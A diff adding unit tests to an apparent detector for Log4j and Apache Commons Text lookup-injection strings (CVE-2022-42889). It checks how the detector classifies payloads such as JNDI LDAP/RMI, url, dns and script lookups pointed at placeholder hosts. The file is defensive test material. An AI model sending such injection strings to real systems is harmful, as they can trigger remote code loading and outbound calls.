@@ -57,6 +57,28 @@ class Answers(unittest.TestCase):
             got = answer(payload)
             self.assertEqual((got["class"], got["detected"]), (kind, False), payload)
 
+    def test_what_commons_text_would_do_stands_apart(self):
+        got = answer("%24{url:UTF-8:http://x.example/a}")
+        self.assertEqual((got["detected"], got["class"], got["lookups"]), (False, "none", []))
+        self.assertEqual(got["commons_text"], {
+            "class": "attack", "reaches_network": True,
+            "lookups": ["url:UTF-8:http://x.example/a"],
+            "callbacks": ["http://x.example:80/a"], "variables": [], "encodings": ["percent"],
+            "tricks": [], "cves": ["CVE-2022-42889"], "depth": 1})
+        both = answer("${script:js:1} " + ATTACK)
+        self.assertEqual((both["class"], both["lookups"], both["commons_text"]["lookups"]),
+                         ("attack", ["jndi:ldap://203.0.113.9:1389/a"], ["script:js:1"]))
+        self.assertNotIn("commons_text", answer(ATTACK + " ${env:dns}"))
+
+    def test_the_page_has_a_part_for_commons_text(self):
+        _, out, _ = run("${dns:x.example}")
+        lines = [" ".join(line.split()) for line in out.decode().splitlines()]
+        at = lines.index("dialect Commons Text")
+        self.assertIn("class none", lines[:at])
+        for line in ("class attack", "asks dns:x.example", "calls dns://x.example",
+                     "points at CVE-2022-42889", "asks for dns:x.example"):
+            self.assertIn(line, lines[at:])
+
     def test_each_name_has_its_call_back(self):
         got = answer("${jndi:foo} ${jndi:rmi://a/x} ${jndi:LDAP://b:7/} ${jndi:ldap:/c} "
                      "${jndi:rmi://a/x}")
